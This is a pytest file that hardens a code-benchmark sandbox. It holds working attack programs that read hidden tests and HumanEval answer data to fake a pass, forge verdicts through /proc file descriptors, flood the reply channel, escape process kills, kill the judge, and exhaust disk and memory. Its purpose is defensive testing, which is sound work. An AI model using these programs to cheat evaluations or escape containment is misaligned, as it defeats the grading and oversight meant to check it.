"""Attacks on the sandbox's trust boundary, one program per class. Each returns the wrong
answer (0) unless its attack works, so a pass means the attack got through:

- read the tests or the expected values from anywhere the program can reach (its folder,
  its parents, /tmp, other processes' folders through /proc, HumanEval's data files);
- reach an ancestor's or a sibling's file descriptors through /proc and write a verdict
  or a fake reply there;
- race the verdict: flood the channel with forged replies from a thread;
- escape the group kill (a new session, a double fork) and leave a process behind;
- signal the judge (every visible process, and kill(-1)).

The second half (issue 20) attacks the judge itself rather than the boundary: hang it, crash it,
wear it out after the deadline, fill the host's disk and memory, find host facts (root, packages),
and lean on the user's environment (PYTHONOPTIMIZE). Each runs in a child process with a time
limit, so a judge that hangs fails its test instead of hanging the suite.

Each attack is first shown to work where its target is reachable (outside the sandbox,
with the tests beside it), so that a "failed" in the sandbox means the boundary held,
not that the attack was broken.
"""

import json
import os
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest

from bench.sandbox import WORKER_NAME, Job, Limits, isolation_available, run_job

PROMPT = 'def add(a, b):\n    """Return a + b."""\n'
TESTS = "def check(candidate):\n    assert candidate(2, 3) == 5\n    assert candidate(-1, 1) == 0\n    assert candidate(40, 2) == 42\n"
LIMITS = Limits(timeout_s=8.0, memory_mb=512)
ISOLATION = isolation_available()
needs_bwrap = pytest.mark.skipif("bwrap" not in ISOLATION, reason=f"bubblewrap not available (isolation: {ISOLATION})")

# Finds "assert candidate(A, B) == C" in any file it can read, and answers from it.
READ_TESTS = r'''
import glob, gzip, os, re, time
PATTERN = re.compile(r"candidate\((-?\d+),\s*(-?\d+)\)\s*==\s*(-?\d+)")
ANSWERS = {}
def _scan(path):
    try:
        if os.path.getsize(path) > 4_000_000:
            return
        data = gzip.open(path).read() if path.endswith(".gz") else open(path, "rb").read()
        for a, b, c in PATTERN.findall(data.decode("utf-8", "replace")):
            ANSWERS[(int(a), int(b))] = int(c)
    except (OSError, EOFError, ValueError):
        pass
roots = [os.getcwd(), os.path.dirname(os.getcwd()), "/tmp", "/work", "/"]
roots += glob.glob("/proc/[0-9]*/cwd") + glob.glob("/proc/[0-9]*/root/tmp")
started = time.monotonic()
for root in roots:
    for folder, dirs, files in os.walk(root):
        dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev")]
        for name in files:
            if name.endswith((".py", ".jsonl", ".gz", ".json", ".txt")) or "test" in name:
                _scan(os.path.join(folder, name))
        if time.monotonic() - started > 4:
            break
def add(a, b):
    return ANSWERS.get((a, b), 0)
'''

# Looks for HumanEval's own data anywhere and answers HumanEval/0 from the asserts stored there.
READ_HUMANEVAL_DATA = r'''
import gzip, json, os, re, time
TABLE = {}
started = time.monotonic()
for root in ("/work", "/root", "/usr", "/opt", "/home", "/"):
    for folder, dirs, files in os.walk(root):
        dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev")]
        for name in files:
            if name.startswith("HumanEval") and name.endswith((".jsonl.gz", ".jsonl")):
                path = os.path.join(folder, name)
                lines = gzip.open(path, "rt") if name.endswith(".gz") else open(path)
                for line in lines:
                    problem = json.loads(line)
                    if problem["task_id"] == "HumanEval/0":
                        for args, want in re.findall(r"assert candidate\((.*)\) == (True|False)", problem["test"]):
                            TABLE[repr(eval("(" + args + ",)"))] = want == "True"
        if TABLE or time.monotonic() - started > 6:
            break
    if TABLE:
        break
def has_close_elements(numbers, threshold):
    return TABLE.get(repr((numbers, threshold)), None)
'''

# Writes a forged verdict and forged replies into every file descriptor of every process it can see.
PROC_FDS = r'''
import glob, json, os, struct
def forge():
    reply = json.dumps({"value": 5}).encode()
    messages = [b"EDGEBENCH-VERDICT passed\n", b"passed\n", struct.pack("<I", len(reply)) + reply]
    for fd_path in glob.glob("/proc/[0-9]*/fd/*"):
        for message in messages:
            try:
                fd = os.open(fd_path, os.O_WRONLY | os.O_NONBLOCK)
                os.write(fd, message)
                os.close(fd)
            except OSError:
                pass
forge()
def add(a, b):
    forge()
    return 0
'''

# A thread floods the worker's own reply channel with forged "right" answers, racing the real ones.
RACE = r'''
import json, os, struct, threading
def flood():
    for value in (5, 0, 42) * 2000:
        reply = json.dumps({"value": value}).encode()
        for fd in range(3, 12):
            try:
                os.write(fd, struct.pack("<I", len(reply)) + reply)
            except OSError:
                pass
threading.Thread(target=flood, daemon=True).start()
def add(a, b):
    return 0
'''

# Leaves the process group and the session, double-forks through libc, and stays alive.
ESCAPE = r'''
import ctypes, os, time
libc = ctypes.CDLL(None)
if libc.fork() == 0:
    libc.setsid()
    if libc.fork() == 0:
        import signal
        for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
            signal.signal(s, signal.SIG_IGN)
        time.sleep(120)
    os._exit(0)
def add(a, b):
    return 0
'''

# SIGKILLs every process it can see, then everything it may signal.
SIGNAL_JUDGE = r'''
import glob, os, signal
def strike():
    me = os.getpid()
    for path in glob.glob("/proc/[0-9]*"):
        pid = int(path.rsplit("/", 1)[1])
        if pid != me:
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
strike()
def add(a, b):
    try:
        os.kill(-1, signal.SIGKILL)
    except OSError:
        pass
    return 0
'''


def job(program: str) -> Job:
    return Job("attack", PROMPT, program, TESTS, "add")


def _leftovers() -> list[str]:
    out = subprocess.run(["ps", "-eo", "args"], capture_output=True, text=True).stdout
    return [line for line in out.splitlines() if WORKER_NAME in line]


def test_the_read_tests_attack_works_where_the_tests_are_reachable(tmp_path):
    (tmp_path / "test.py").write_text(TESTS)  # how the old sandbox laid out its folder
    probe = READ_TESTS + "\nprint(add(2, 3), add(-1, 1), add(40, 2))\n"
    result = subprocess.run([sys.executable, "-I", "-c", probe], cwd=tmp_path, capture_output=True, text=True, timeout=60)
    assert result.stdout.split() == ["5", "0", "42"], result.stderr


def _humaneval_0() -> Job:
    from bench.suites.humaneval import HumanEvalSuite

    problem = HumanEvalSuite().problems["HumanEval/0"]
    return Job("attack", problem.prompt, problem.prompt + "    pass\n" + READ_HUMANEVAL_DATA, problem.tests,
               problem.entry_point)


def test_the_humaneval_data_attack_works_where_the_data_is_reachable(tmp_path):
    probe = READ_HUMANEVAL_DATA + "\nprint(has_close_elements([1.0, 2.0, 3.9, 4.0, 5.0, 2.2], 0.3))\n"
    result = subprocess.run([sys.executable, "-I", "-c", probe], cwd=tmp_path, capture_output=True, text=True, timeout=60)
    assert result.stdout.split() == ["True"], result.stderr


@needs_bwrap
def test_humaneval_data_is_out_of_reach_under_bwrap():
    result = run_job(_humaneval_0(), LIMITS)
    assert result.status == "failed", result


@needs_bwrap
@pytest.mark.parametrize("name, program", [("read_tests", READ_TESTS), ("proc_fds", PROC_FDS), ("race", RACE),
                                           ("escape", ESCAPE), ("signal_judge", SIGNAL_JUDGE)])
def test_attacks_never_pass_under_bwrap(name, program):
    result = run_job(job(program), LIMITS)
    assert result.status in ("failed", "timeout"), (name, result)
    assert result.isolation.startswith("bwrap")
    time.sleep(0.2)
    assert _leftovers() == [], name


def test_the_race_never_passes_with_rlimits_only():
    """Without bwrap the program runs as this user, and the attacks that reach other processes
    would reach this machine's (see the README for what that fallback does not stop); the judge
    still never takes forged replies on its own channel for a pass."""
    result = run_job(job(RACE), LIMITS, isolation="rlimits")
    assert result.status in ("failed", "timeout"), result


def test_the_honest_answer_still_passes_beside_the_attacks():
    assert run_job(job(PROMPT + "    return a + b\n"), LIMITS).status == "passed"


# ---- the judge outlives anything one sample does (issue 20) ----
#
# Each program below was first run against the judge before issue 20 (commit b7639d7), in a child
# process with a time limit: what it did there is in its comment. Here each must end, within
# its time limit, as a fail or a timeout (or as its honest pass), with nothing left behind.

REPO = str(Path(__file__).resolve().parents[2])

# Finds the worker's pipes by their access mode; writes with a wait (the worker's fds are non-blocking).
PIPE_TOOLS = r'''
import fcntl, json, os, select, struct, time
def _pipes(mode):
    found = []
    for fd in range(3, 64):
        try:
            if os.readlink(f"/proc/self/fd/{fd}").startswith("pipe:") and fcntl.fcntl(fd, fcntl.F_GETFL) & os.O_ACCMODE == mode:
                found.append(fd)
        except OSError:
            pass
    return found
def _write_all(fd, data):
    while data:
        select.select([], [fd], [], 5)
        try:
            data = data[os.write(fd, data):]
        except BlockingIOError:
            pass
def _call_id():
    """The id of the call being answered, read from the worker's frame (the judge before issue 20 had none)."""
    import sys
    frame = sys._getframe()
    while frame:
        call = frame.f_locals.get("call")
        if isinstance(call, dict):
            return call.get("id")
        frame = frame.f_back
def _reply(key, value_json):
    """A reply to the current call, as bytes: b'{"id": ..., "value": ...}'."""
    call_id = _call_id()
    head = b'{"id": %d, ' % call_id if call_id is not None else b"{"
    return head + json.dumps(key).encode() + b": " + value_json + b"}"
def _forge(reply):
    for fd in _pipes(os.O_WRONLY):
        _write_all(fd, struct.pack("<I", len(reply)) + reply)
'''

# Class 1, hang: answers the first call (forged on the reply pipe), then opens a second writer on its
# own call pipe through /proc/self/fd, shrinks it to one page and fills it, and sleeps without CPU.
# Before: the judge's blocking write of the second call never returned; `score` never ended, and
# Ctrl-C did not stop it.
HANG = PIPE_TOOLS + r'''
def add(a, b):
    writers = _pipes(os.O_WRONLY)
    for fd in _pipes(os.O_RDONLY):
        jam = os.open(f"/proc/self/fd/{fd}", os.O_WRONLY | os.O_NONBLOCK)
        try:
            fcntl.fcntl(jam, 1031, 4096)  # F_SETPIPE_SZ
        except OSError:
            pass
        try:
            while True:
                os.write(jam, b"\0" * 4096)
        except BlockingIOError:
            pass
    reply = _reply("value", json.dumps(a + b).encode())
    for fd in writers:
        _write_all(fd, struct.pack("<I", len(reply)) + reply)
    time.sleep(3600)
'''

# Class 2, crash: a work folder thousands of folders deep. Before: shutil.rmtree raised
# RecursionError out of run_job, and with it out of `score`.
DEEP_FOLDERS = r'''
import os
def add(a, b):
    for _ in range(500):  # 1500 deep after the three calls of check (rmtree gave up at 1000)
        os.mkdir("d")
        os.chdir("d")
    return a + b
'''

# Class 2, crash: an exception whose name is rich markup, and a line of stderr that is. Before: the
# table output raised MarkupError.
MARKUP_ERROR = 'def add(a, b):\n    raise type("[/x][bold red]", (Exception,), {})()\n'
MARKUP_STDERR = 'import os\nos.write(2, b"[/x] [link=file:///etc/passwd]\\n")\nos._exit(1)\n'
# A forged error reply with a lone surrogate (JSON's "\udcff" escape) and markup. Before: the table
# raised MarkupError, and without the markup a strict UTF-8 stdout raised UnicodeEncodeError.
SURROGATE_ERROR = PIPE_TOOLS + 'def add(a, b):\n    _forge(_reply("error", json.dumps("bad\\udcff [/x]").encode()))\n    return 0\n'
# A program text with a lone surrogate (from a JSON escape in the samples file). Before: writing
# program.py raised UnicodeEncodeError out of run_job.
SURROGATE_PROGRAM = "def add(a, b):\n    # \ud800\n    return a + b\n"

# Class 3, wear-out: a forged reply whose set members (or dict keys) all hash alike (multiples of
# 2**61 - 1 all hash to 0). Before: decoding built the set in quadratic time after the deadline:
# 25.5 s (set) and 27.3 s (dict) of the judge's time for 40000 members (a 1 MB reply) of a 5 s sample.
def colliding(tag: str, members: int) -> str:
    value = "[[i * M, 0] for i in range(1, N)]" if tag == "d" else "[i * M for i in range(1, N)]"
    return PIPE_TOOLS + f"M = 2**61 - 1\nN = {members}\n" + (
        "def add(a, b):\n"
        f"    _forge(_reply('value', json.dumps({{{tag!r}: {value}}}).encode()))\n"
        "    return a + b\n")

# Class 3, wear-out: a 16 MB reply of empty lists. Before: the judge's peak memory rose from 28 MB to
# 822 MB, and decoding took 15 s.
BIG_REPLY = PIPE_TOOLS + r'''
def add(a, b):
    _forge(_reply("value", b"[" + b"[]," * (16 * 2**20 // 3 - 10) + b"[]]"))
    return a + b
'''

# Class 4, disk: 96 MB into /work and 96 MB into /tmp, in 4 MB files (under the per-file limit).
# Before: all of it landed (on the host's disk and in its memory): passed, so the attack got through.
DISK_FILL = r'''
import os
TOTAL = 0
for folder in ("/work", "/tmp"):
    for i in range(24):
        try:
            with open(f"{folder}/fill{i}", "wb") as f:
                f.write(b"\1" * 4 * 2**20)
            TOTAL += 4
        except OSError:
            break
def add(a, b):
    return a + b if TOTAL >= 150 else 0
'''

# Class 4, memory: a tmpfs of its own in a nested user namespace, filled with 400 MB.
# Before: allowed (bwrap left user namespaces on), 400 MB of host memory beyond any limit: passed.
NESTED_TMPFS = r'''
import ctypes, os
TOTAL = 0
def _fill():
    global TOTAL
    libc = ctypes.CDLL(None, use_errno=True)
    uid, gid = os.getuid(), os.getgid()
    if libc.unshare(0x10000000 | 0x00020000) != 0:
        return
    for path, text in (("setgroups", "deny"), ("uid_map", f"0 {uid} 1"), ("gid_map", f"0 {gid} 1")):
        with open(f"/proc/self/{path}", "w") as f:
            f.write(text)
    if libc.mount(b"none", b"/tmp", b"tmpfs", 0, b"size=2g") != 0:
        return
    for i in range(100):
        try:
            with open(f"/tmp/m{i}", "wb") as f:
                f.write(b"\1" * 4 * 2**20)
            TOTAL += 4
        except OSError:
            return
_fill()
def add(a, b):
    return a + b if TOTAL >= 400 else 0
'''

# Class 4, disk/memory: any writable place besides the bounded /work and /tmp (bwrap's /dev tmpfs,
# /dev/shm, the tmpfs that hides a site-packages folder) is an unbounded tmpfs. Before: /dev/shm and
# the hidden folders took the writes: passed.
WRITE_ELSEWHERE = r'''
import os
WROTE = []
for folder in ("/dev/shm", "/dev", "/usr/lib/python3/dist-packages", "/opt/edgebench-packages", "/opt", "/etc", "/"):
    try:
        with open(os.path.join(folder, "fill"), "wb") as f:
            f.write(b"\1" * 2**20)
        WROTE.append(folder)
    except OSError:
        pass
for root, dirs, files in os.walk("/usr"):
    if os.path.basename(root) in ("site-packages", "dist-packages"):
        try:
            with open(os.path.join(root, "fill"), "wb") as f:
                f.write(b"\1")
            WROTE.append(root)
        except OSError:
            pass
        dirs[:] = []
    elif root.count("/") > 6:
        dirs[:] = []
def add(a, b):
    return a + b if WROTE else 0
'''

# Class 4, memory: three processes of 200 MB each (each under its own address-space limit).
# Before: 600 MB, beyond the per-process limit of 256 MB given: passed.
MEMORY_SPREAD = r'''
import ctypes, os, select, time
libc = ctypes.CDLL(None)
r, w = os.pipe()
for _ in range(3):
    if libc.fork() == 0:
        blob = b"\1" * (200 * 2**20)
        os.write(w, b"x")
        time.sleep(60)
        os._exit(0)
got, deadline = b"", time.monotonic() + 5
while len(got) < 3 and select.select([r], [], [], max(0, deadline - time.monotonic()))[0]:
    got += os.read(r, 3)
def add(a, b):
    return a + b if len(got) == 3 else 0
'''

# Class 5, host facts: answers right only if the sandbox's uid is host root. Before: passed
# (bwrap's user namespace mapped the sandbox's 65534 to host uid 0).
HOST_ROOT = r'''
import os
def _host_uid():
    uid = os.getuid()
    for line in open("/proc/self/uid_map"):
        inside, outside, count = map(int, line.split())
        if inside <= uid < inside + count:
            return outside + uid - inside
HOST_UID = _host_uid()
def add(a, b):
    return a + b if HOST_UID == 0 else 0
'''

# Class 5, host facts: answers right only if it finds a site-packages or dist-packages folder with
# anything in it. Before: passed (the base interpreter's site-packages was visible).
SITE_PACKAGES = r'''
import os
FOUND = []
for root, dirs, files in os.walk("/"):
    dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev")] if root.count("/") < 7 else []
    if os.path.basename(root) in ("site-packages", "dist-packages") and (dirs or files):
        FOUND.append(root)
        dirs[:] = []
def add(a, b):
    return a + b if FOUND else 0
'''

# Class 6, environment: a wrong answer. Before: passed when the user's environment had PYTHONOPTIMIZE=1.
RETURN_NONE = "def add(a, b):\n    return None\n"

RUNNER = r'''
import json, sys
from bench.sandbox import Job, Limits, run_job
spec = json.loads(sys.stdin.read())
result = run_job(Job("attack", spec["prompt"], spec["program"], spec["tests"], "add"), Limits(**spec["limits"]),
                 spec["isolation"])
print(json.dumps({"status": result.status, "detail": result.detail, "duration_s": result.duration_s}))
'''


def judge_in_child(program: str, limits: dict | None = None, isolation: str | None = None, env: dict | None = None,
                   flags: tuple = (), timeout: float = 40, path: str = REPO) -> dict:
    """run_job in a child process with a time limit: a judge that hangs fails the test instead of hanging it."""
    spec = {"prompt": PROMPT, "program": program, "tests": TESTS, "isolation": isolation,
            "limits": limits or {"timeout_s": 5.0, "memory_mb": 512}}
    child_env = {**os.environ, "PYTHONPATH": path, **(env or {})}
    done = subprocess.run([sys.executable, *flags, "-c", RUNNER], input=json.dumps(spec), text=True,
                          capture_output=True, timeout=timeout, env=child_env, cwd=path)
    assert done.returncode == 0, f"the judge crashed: {done.stderr[-2000:]}"
    return json.loads(done.stdout.strip().splitlines()[-1])


def _ours() -> set[str]:
    """Sandbox cgroups and work folders on this machine (other sessions' come and go; ours must not stay)."""
    import glob

    found = set(glob.glob("/tmp/edgebench-sbx-*"))
    for hierarchy in ("pids", "memory", "unified", ""):  # cgroup v1's controllers, a hybrid's v2, a v2 host's root
        if hierarchy or os.path.exists("/sys/fs/cgroup/cgroup.controllers"):
            found.update(glob.glob(f"/sys/fs/cgroup/{hierarchy}/**/edgebench-*".replace("//", "/"), recursive=True))
    return found


def _left_behind(before: set[str]) -> set[str]:
    """What is new since `before` and still there two seconds later."""
    new = _ours() - before
    if new:
        time.sleep(2)
        new &= _ours()
    return new


@pytest.mark.parametrize("isolation", [None, "rlimits"])
def test_a_full_call_pipe_is_a_timeout_not_a_hang(isolation):
    before = _ours()
    result = judge_in_child(HANG, isolation=isolation, timeout=30)
    # As root under bwrap the sandbox's uid (65534) may not even open the pipe (its inode is root's): failed
    assert result["status"] in ("timeout", "failed") and (isolation is None or result["status"] == "timeout"), result
    assert result["duration_s"] < 8, result
    assert _left_behind(before) == set()
    assert _leftovers() == []


CTRL_C = r'''
import sys
from bench.sandbox import Job, Limits, run_jobs
from tests.bench.test_sandbox_attacks import HANG, PROMPT, TESTS
jobs = [Job(f"hang{i}", PROMPT, HANG, TESTS, "add") for i in range(4)]
jobs += [Job(f"loop{i}", PROMPT, "def add(a, b):\n    while True:\n        pass\n", TESTS, "add") for i in range(8)]
print("started", flush=True)
try:
    run_jobs(jobs, Limits(timeout_s=60.0, memory_mb=512), workers=4)
except KeyboardInterrupt:
    print("interrupted", flush=True)
    sys.exit(130)
'''


def test_ctrl_c_stops_a_hung_score_at_once():
    before = _ours()
    # SIGINT at its default in the child, whatever the test process inherited (an ignored SIGINT is inherited
    # through exec, and Python then never raises KeyboardInterrupt)
    child = subprocess.Popen([sys.executable, "-c", CTRL_C], cwd=REPO, env={**os.environ, "PYTHONPATH": REPO},
                             stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
                             preexec_fn=lambda: signal.signal(signal.SIGINT, signal.SIG_DFL))
    try:
        assert child.stdout.readline().strip() == "started"
        time.sleep(3)  # every worker now holds a hung or looping sample
        child.send_signal(signal.SIGINT)
        # well inside the samples' own 60 s deadline, with room for a loaded host (it timed out at 15 s twice in
        # full suites on a machine shared with other jobs, and passed in every run alone or with tests/bench)
        out, err = child.communicate(timeout=40)
    finally:
        child.kill()
    assert child.returncode == 130 and "interrupted" in out, err[-2000:]
    assert _left_behind(before) == set()
    assert _leftovers() == []


@pytest.mark.parametrize("isolation", [None, "rlimits"])
def test_a_deep_work_folder_costs_nothing(isolation):
    before = _ours()
    result = judge_in_child(DEEP_FOLDERS, isolation=isolation)
    assert result["status"] == "passed", result  # an odd but correct answer
    assert _left_behind(before) == set()


def test_the_judges_own_failure_costs_one_sample(monkeypatch):
    import bench.sandbox as sandbox

    real_judge = sandbox.judge

    def broken(job, *args):
        if job.key == "broken":
            raise RuntimeError("[/x] the judge broke")
        return real_judge(job, *args)

    before = _ours()
    monkeypatch.setattr(sandbox, "judge", broken)
    honest = PROMPT + "    return a + b\n"
    jobs = [Job("broken", PROMPT, honest, TESTS, "add"), Job("fine", PROMPT, honest, TESTS, "add")]
    results = sandbox.run_jobs(jobs, LIMITS, workers=2)
    assert [r.status for r in results] == ["error", "passed"]
    assert results[0].detail == "judge error: RuntimeError: [/x] the judge broke"
    assert _left_behind(before) == set()


@pytest.mark.parametrize("program, shown", [(MARKUP_ERROR, "[/x][bold red]"), (MARKUP_STDERR, "[/x] [link=file:///etc/passwd]"),
                                            (SURROGATE_ERROR, "bad\\udcff")])
def test_error_text_is_plain_printable_text(program, shown):
    import io

    from rich.console import Console

    from edgebench.console import humaneval_tables

    result = run_job(job(program), LIMITS)
    assert result.status == "failed" and shown in result.detail, result
    result.detail.encode("utf-8", "strict")
    score = {"pass@1": {"value": 0.0, "ci95": [0.0, 0.5]}, "tasks": 1, "samples": 1, "isolation": "x",
             "per_task": {"HumanEval/0": {"passed": 0, "n": 1, "statuses": ["failed"], "detail": result.detail}}}
    out = io.StringIO()
    console = Console(file=out, width=400, color_system=None)
    for table in humaneval_tables(score):
        console.print(table)
    assert result.detail[:60] in out.getvalue()  # the table shows the detail's start, as written


def test_a_program_that_is_not_utf8_fails_with_a_reason():
    result = run_job(job(SURROGATE_PROGRAM), LIMITS)
    assert result.status == "failed" and "not valid UTF-8" in result.detail, result


@pytest.mark.parametrize("tag", ["s", "d"])
def test_colliding_hashes_are_refused_at_once(tag):
    result = judge_in_child(colliding(tag, 2000), timeout=30)
    assert result["status"] == "failed" and "share one hash" in result["detail"], result
    assert result["duration_s"] < 3, result


@pytest.mark.parametrize("program", [colliding("s", 40_000), BIG_REPLY], ids=["colliding-1MB", "16MB"])
def test_a_large_reply_is_refused_unread(program):
    result = judge_in_child(program, timeout=30)
    assert result["status"] == "failed" and "over the" in result["detail"], result
    assert result["duration_s"] < 3, result


def test_decoding_is_bounded_in_time_and_memory():
    """The worst replies under the size limit decode in milliseconds and a few MB."""
    import tracemalloc

    from bench.sandbox_worker import MAX_MESSAGE, ChannelError, decode, parse

    worst = [b"[" + b"[]," * (MAX_MESSAGE // 3 - 2) + b"[]]", b"[" + b"0," * (MAX_MESSAGE // 2 - 2) + b"0]",
             b'{"s": [' + b",".join(str(i * (2**61 - 1)).encode() for i in range(1, 2500)) + b"]}",
             b"[" * 5000 + b"]" * 5000]
    for data in worst:
        assert len(data) <= MAX_MESSAGE + 4
        started = time.perf_counter()
        try:
            decode(parse(data))
        except (ValueError, ChannelError):
            pass
        took = time.perf_counter() - started
        tracemalloc.start()
        try:
            decode(parse(data))
        except (ValueError, ChannelError):
            pass
        _, peak = tracemalloc.get_traced_memory()
        tracemalloc.stop()
        # a bound on the class, not a timing target: quadratic decoding took 25 s and more on these sizes,
        # linear takes milliseconds; 5 s leaves room for a loaded CI host
        assert took < 5 and peak < 64 * 2**20, (data[:20], took, peak)


@needs_bwrap
@pytest.mark.parametrize("program", [DISK_FILL, WRITE_ELSEWHERE, NESTED_TMPFS, MEMORY_SPREAD],
                         ids=["disk-fill", "write-elsewhere", "nested-tmpfs", "memory-spread"])
def test_disk_and_memory_are_bounded_in_total(program):
    if program is MEMORY_SPREAD and "memory-cgroup" not in ISOLATION:
        pytest.skip("no writable memory cgroup here: memory is bounded per process only (see the isolation record)")
    before = _ours()
    result = judge_in_child(program, limits={"timeout_s": 8.0, "memory_mb": 256}, timeout=40)
    assert result["status"] in ("failed", "timeout"), result
    assert _left_behind(before) == set()


def test_the_bounds_are_in_the_isolation_record():
    from bench.sandbox import isolation_record

    record = isolation_record(Limits(disk_mb=16))
    if "bwrap" in record["isolation"]:
        assert "16 MiB" in record["disk"] and record["host_uid"] != 0
    assert {"isolation", "disk", "memory", "processes", "visible", "host_uid"} <= set(record)


@needs_bwrap
@pytest.mark.parametrize("program", [HOST_ROOT, SITE_PACKAGES], ids=["host-root", "site-packages"])
def test_host_facts(program):
    result = judge_in_child(program, timeout=60)
    assert result["status"] == "failed", result


@pytest.mark.parametrize("env, flags", [({"PYTHONOPTIMIZE": "1"}, ()), ({}, ("-O",)),
                                        ({"PYTHONOPTIMIZE": "2", "PYTHONHASHSEED": "0", "PYTHONINTMAXSTRDIGITS": "0",
                                          "PYTHONWARNINGS": "error"}, ())])
def test_the_users_environment_does_not_change_the_verdict(env, flags):
    assert judge_in_child(RETURN_NONE, env=env, flags=flags)["status"] == "failed"
    assert judge_in_child(PROMPT + "    return a + b\n", env=env, flags=flags)["status"] == "passed"
